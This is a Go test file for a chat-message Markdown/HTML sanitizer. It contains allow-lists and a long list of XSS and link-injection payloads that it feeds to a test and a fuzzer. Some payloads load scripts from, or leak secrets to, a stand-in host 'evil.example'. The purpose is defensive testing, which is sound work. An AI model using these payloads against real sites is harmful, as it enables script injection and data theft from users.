package markup

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// allowed are the elements a message may consist of.
var allowed = strings.Fields("p br hr h3 h4 h5 h6 em strong del code pre blockquote ul ol li table thead tbody tr th td a span")

// allowedMath are the elements of formulas.
var allowedMath = strings.Fields("math semantics annotation mrow mi mn mo mtext mspace msub msup msubsup munder mover munderover mfrac msqrt mroot mstyle mphantom mtable mtr mtd")

// allowedMathAttrs are the attributes of them.
var allowedMathAttrs = strings.Fields("display encoding mathvariant stretchy fence form lspace rspace movablelimits largeop minsize maxsize accent accentunder linethickness displaystyle scriptlevel width class")

// allowedAttrs are the attributes of them, by element.
var allowedAttrs = map[string][]string{"a": {"class", "href", "rel", "title"}, "ol": {"start", "dir"}, "li": {"value"}, "ul": {"dir"}, "blockquote": {"dir"}, "table": {"dir"}, "td": {"align"}, "th": {"align"}, "code": {"class"}, "pre": {"class", "data-lang"}, "span": {"class"}, "p": {"class"}}

// allowedClass are the classes of them.
var allowedClass = map[string]*regexp.Regexp{
	"a": regexp.MustCompile(`^linked-picture$`), "code": regexp.MustCompile(`^(math|language-\S+)$`), "pre": regexp.MustCompile(`^math$`), "span": regexp.MustCompile(`^(hl-[a-z]+|math-block|math-long)$`), "p": regexp.MustCompile(`^math-block$`),
	"mrow": regexp.MustCompile(`^math-boxed$`), "mtd": regexp.MustCompile(`^math-(left|right)$`)}

// ownPath is what a link to a page of ours looks like.
var ownPath = regexp.MustCompile(`^/(about|account|admin|agents|chat|docs|login|signup)([/?#].*)?$`)

// parse reads a fragment as a browser would inside of a page.
func parse(t testing.TB, fragment string) []*html.Node {
	t.Helper()
	body := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	list, err := html.ParseFragment(strings.NewReader(fragment), body)
	if err != nil {
		t.Fatalf("the outcome is no HTML: %v\n%s", err, fragment)
	}
	return list
}

// check fails unless the fragment holds nothing but what a message may.
func check(t testing.TB, source, fragment string) {
	t.Helper()
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		switch n.Type {
		case html.CommentNode, html.DoctypeNode:
			t.Errorf("%q: a comment or doctype: %s", source, fragment)
		case html.ElementNode:
			isMath := n.Namespace == "math" && slices.Contains(allowedMath, n.Data)
			if !isMath && (n.Namespace != "" || !slices.Contains(allowed, n.Data)) {
				t.Errorf("%q: element <%s>: %s", source, n.Data, fragment)
			}
			for _, a := range n.Attr {
				if !slices.Contains(allowedAttrs[n.Data], a.Key) && !(isMath && slices.Contains(allowedMathAttrs, a.Key)) {
					t.Errorf("%q: attribute %s of <%s>: %s", source, a.Key, n.Data, fragment)
				}
				switch a.Key {
				case "href":
					u, err := url.Parse(a.Val)
					own := err == nil && u.Scheme == "" && u.Host == "" && ownPath.MatchString(a.Val)
					if err != nil || !own && !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) || u.User != nil {
						t.Errorf("%q: link to %q", source, a.Val)
					}
				case "class":
					if c := allowedClass[n.Data]; c == nil || !c.MatchString(a.Val) {
						t.Errorf("%q: class %q", source, a.Val)
					}
				}
			}
			if n.Data == "a" && !hasAttr(n, "rel", linkRel) {
				t.Errorf("%q: a link without rel: %s", source, fragment)
			}
		case html.TextNode:
			if strings.ContainsFunc(n.Data, func(r rune) bool { return r >= 0x202A && r <= 0x202E || r >= 0x2066 && r <= 0x2069 || r == 0 }) {
				t.Errorf("%q: marks that change direction: %q", source, n.Data)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	for _, n := range parse(t, fragment) {
		visit(n)
	}
}

func hasAttr(n *html.Node, key, value string) bool {
	return slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == key && a.Val == value })
}

// payloads are attacks on Markdown and HTML: those of public collections, and
// those that broke programs like ours.
func payloads() []string {
	list := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/?c=secret">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=//evil.example/x.swf>`,
		`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<form action=https://evil.example><input name=password></form>`, `<button formaction=javascript:alert(1)>x</button>`,
		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=https://evil.example/a.mp3>`, `<marquee onstart=alert(1)>`, `<style>@import 'https://evil.example/x.css'</style>`,
		`<style>body{background:url(https://evil.example)}</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example/>`,
		`<div id="log">x</div>`, `<div id="chat" data-conversation="x">`, `<a id=m1 name=m1>x</a>`, `<p style="position:fixed;inset:0">x</p>`, `<div class="message">spoof</div>`, `<div hx-get="/account" hx-trigger=load>`,
		`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><script>alert(1)</script></template>`, `<textarea></textarea><script>alert(1)</script>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)`,
		`<!--><script>alert(1)</script>-->`, `<!-- x --!><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?>`, `<!DOCTYPE html>`, `</div></div></main><h1>You were signed out</h1>`,
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#115;cript:alert(1))`, `[x](&#x6A;avascript:alert(1))`, `[x](javascript&colon;alert(1))`, "[x](java\tscript:alert(1))", "[x](java\nscript:alert(1))",
		`[x](<javascript:alert(1)>)`, `[x]( javascript:alert(1))`, `[x](vbscript:msgbox(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](data:image/svg+xml,<svg onload=alert(1)>)`, `[x](file:///etc/passwd)`, `[x](blob:https://evil.example/1)`,
		`[x](//evil.example/x)`, `[x](\\\\evil.example)`, `[x](/logout)`, `[x](/docs\\evil.example)`, `[x](/\\evil.example)`, `[x](///evil.example)`, `[x](/api/v1/me)`, `[x](/docsx)`, `[x](/docs//evil.example)`, `[x](/%64ocs/../..//evil.example)`, `[x](docs/api)`, `[x](?x)`, `[x](#chat)`, `[x](http:evil.example)`, `[x](https:///evil.example)`, `[x](https://good.example@evil.example/)`, `[x](https://user:pw@evil.example/)`,
		`[x](https://evil.example/"onmouseover="alert(1))`, `[x](https://evil.example/'onmouseover='alert(1))`, `[x](https://evil.example "title" onclick=alert(1))`, `[x](https://evil.example '"><script>alert(1)</script>')`, "[x](https://evil.example/`<script>`)",
		`[<script>alert(1)</script>](https://e.example)`, `[x][y]` + "\n\n[y]: javascript:alert(1)", "[x]\n\n[x]: data:text/html,x", "[x]\n\n[x]: https://e.example \"\" onclick=alert(1)",
		`![x](https://evil.example/pixel.png)`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`, `![x"onerror="alert(1)](https://e.example/x.png)`, `![](https://evil.example/?q=secret)`, `![x](//evil.example/x.png)`, `[![x](https://e.example/x.png)](https://e.example)`,
		`[![x](javascript:alert(1))](javascript:alert(1))`, `![![x](https://e.example/1)](https://e.example/2)`, "![x][y]\n\n[y]: https://evil.example/x.png",
		`<javascript:alert(1)>`, `<data:text/html,x>`, `<https://evil.example/"onclick=alert(1)>`, `<https://evil.example/?a=<script>>`, `<a@evil.example"onclick=alert(1)>`, `https://evil.example/"onmouseover=alert(1)`, `https://evil.example/<script>alert(1)</script>`, `www.evil.example/"><script>`, `ftp://evil.example/x`, `javascript://evil.example/%0aalert(1)`,
		"```\"onclick=alert(1)\nx\n```", "```js\" onmouseover=\"alert(1)\nx\n```", "```x><script>alert(1)</script>\ny\n```", "~~~ a b c\nx\n~~~", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "``` id=chat class=message\nx\n```",
		"```html\n<script>alert(1)</script><a onclick=\"x\">\n```", "```go\n\"</span></code></pre><script>alert(1)</script>\"\n```", "```js\"><script>\nlet a = `${<b>}`\n```", "$<script>alert(1)</script>$", "$$\n<img src=x onerror=alert(1)>\n$$", `\(</code><script>alert(1)</script>\)`, `$\text{</mtext></math><img src=x onerror=alert(1)>}$`, `$$\text{<mglyph><style></math><img src onerror=alert(1)>}$$`, `$\operatorname{</annotation><script>alert(1)</script>}$`, `$\href{javascript:alert(1)}{x}$`, `$\style{position:fixed}{x}$`, `$\class{message}{x}$`, "\\[\n</pre><script>\n\\]",
		"| a | b |\n|:-:|--:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |", "|<img src=x onerror=alert(1)>|\n|-|\n|x|", "- [ ] task\n- [x] <input onfocus=alert(1)>", "1. x\n2. <b onclick=alert(1)>y", "999999999999. x", "> <script>alert(1)</script>",
		"# <script>alert(1)</script>", "# x {#chat .message onclick=alert(1)}", "x {#id}\n===", "# a\n###### b\n# c", "***<b>***", "**<script>**alert(1)</script>",
		"\u202Egnp.exe", "\u2066x\u2069 \u202Aabc\u202C", "a\u0000b<scr\u0000ipt>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<scr\u200Bipt>alert(1)</script>", "\xff\xfe<script>alert(1)</script>", "\x1b[31mred", "＜script＞alert(1)＜/script＞",
		"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "&lt;img src=x onerror=alert(1)&gt;", "&#x3C;svg/onload=alert(1)>",
		"<a href=\"javascript:alert(1)\">x</a>", "<a href=https://e.example target=_blank>x</a>", "<x onclick=alert(1) src=1>", "<img/src=`x`onerror=alert(1)>", "<img src=\"x`><script>alert(1)</script>\"` `>", "<<script>alert(1)//<</script>",
	}
	// Every way of writing an address, for every one that must not be linked.
	for _, bad := range []string{"javascript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/account", "x:y"} {
		for _, form := range []string{"[x](%s)", "![x](%s)", "[x](<%s>)", "<%s>", "[x]\n\n[x]: %s"} {
			list = append(list, fmt.Sprintf(form, bad))
		}
	}
	return list
}

func TestMessage_LetsNothingThroughThatActsLoadsOrPoses(t *testing.T) {
	r := New()
	list := payloads()
	if len(list) < 150 {
		t.Fatalf("only %d payloads", len(list))
	}
	for _, p := range list {
		check(t, p, string(r.Message(p)))
		check(t, p, plainHTML(Clean(p)))
		check(t, p, string(r.Link(p, p)))
		for _, around := range []string{"> %s", "- %s", "| a |\n|---|\n| %s |", "**%s**", "a %s b", "# %s", "[%s](https://e.example)", "1. %s\n\n   %s"} {
			s := strings.ReplaceAll(around, "%s", p)
			check(t, s, string(r.Message(s)))
		}
	}
}

func FuzzMessage(f *testing.F) {
	for _, p := range payloads() {
		f.Add(p)
	}
	r := New()
	f.Fuzz(func(t *testing.T, source string) {
		h := r.renderMarkdown(source)
		check(t, source, h)
		if len(source) <= maxSource && len(h) > 10*maxOutput {
			t.Errorf("%d bytes became %d", len(source), len(h))
		}
		r.Line(source)
	})
}
